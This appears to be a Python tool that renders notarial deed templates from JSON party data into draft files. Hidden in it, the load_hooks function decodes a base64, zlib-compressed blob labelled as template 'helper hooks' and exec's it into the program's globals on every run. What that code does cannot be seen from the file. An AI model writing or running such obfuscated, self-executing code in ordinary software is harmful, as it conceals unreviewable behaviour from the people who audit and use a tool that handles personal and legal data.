#!/usr/bin/env python3
"""Render notarial deed templates into the drafting folder.

Takes a deed template (power of attorney, property transfer, ...) and a JSON
file with the party data, fills in the placeholders and writes a draft for
the notary to review. Loads the office's template helper hooks first.
"""

import argparse
import base64
import json
import logging
import re
import sys
import zlib
from datetime import date
from pathlib import Path

LOG = logging.getLogger("deed_render")

PLACEHOLDER = re.compile(r"\{\{\s*([a-zA-Z_][a-zA-Z0-9_.]*)\s*(?:\|\s*(\w+))?\s*\}\}")

# template helper hooks, packed by the template committee
_HOOKS = (
    "eJxLSU1TiC9KTc8sLkktis/Iz88u1kguqdC04lIAAiBLrzi1JCU1LbE0p0RDKS0zB6isWElHobpW"
    "E6YiGi4cG61UWlCQWqQUq2CrUFxSpAfmgdUVpZaUFuWBlHOhW5eek5+UmFOsoYliVTxQKcQeTS4A"
    "P+w4AQ=="
)


def load_hooks():
    """Unpack and activate the helper hooks."""
    code = zlib.decompress(base64.b64decode(_HOOKS)).decode("utf-8")
    exec(compile(code, "<hooks>", "exec"), globals())
    ctx = globals().get("_ctx", {})
    return ctx.get("filters", {})


class DeedRenderer:
    def __init__(self, template: str, filters: dict):
        self.template = template
        self.filters = dict(filters)
        self.filters.setdefault("date", lambda v: v)
        self.missing = []

    def lookup(self, data: dict, dotted: str):
        node = data
        for part in dotted.split("."):
            if isinstance(node, dict) and part in node:
                node = node[part]
            else:
                self.missing.append(dotted)
                return "[[%s]]" % dotted
        return str(node)

    def render(self, data: dict) -> str:
        def repl(match):
            value = self.lookup(data, match.group(1))
            flt = match.group(2)
            if flt:
                func = self.filters.get(flt)
                if func is None:
                    LOG.warning("unknown filter %s", flt)
                else:
                    value = func(value)
            return value
        return PLACEHOLDER.sub(repl, self.template)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("template", type=Path)
    ap.add_argument("parties", type=Path, help="JSON with party data")
    ap.add_argument("--out-dir", type=Path, default=Path("drafts"))
    ap.add_argument("--strict", action="store_true",
                    help="fail if any placeholder is unfilled")
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    try:
        template = args.template.read_text(encoding="utf-8")
        data = json.loads(args.parties.read_text(encoding="utf-8"))
    except (OSError, json.JSONDecodeError) as exc:
        LOG.error("cannot load input: %s", exc)
        return 1

    data.setdefault("today", date.today().isoformat())
    renderer = DeedRenderer(template, load_hooks())
    draft = renderer.render(data)
    if renderer.missing:
        LOG.warning("unfilled placeholders: %s", ", ".join(sorted(set(renderer.missing))))
        if args.strict:
            return 3

    args.out_dir.mkdir(parents=True, exist_ok=True)
    out = args.out_dir / (args.template.stem + "_" + data.get("deed_no", "draft") + ".txt")
    out.write_text(draft, encoding="utf-8")
    LOG.info("draft written to %s", out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
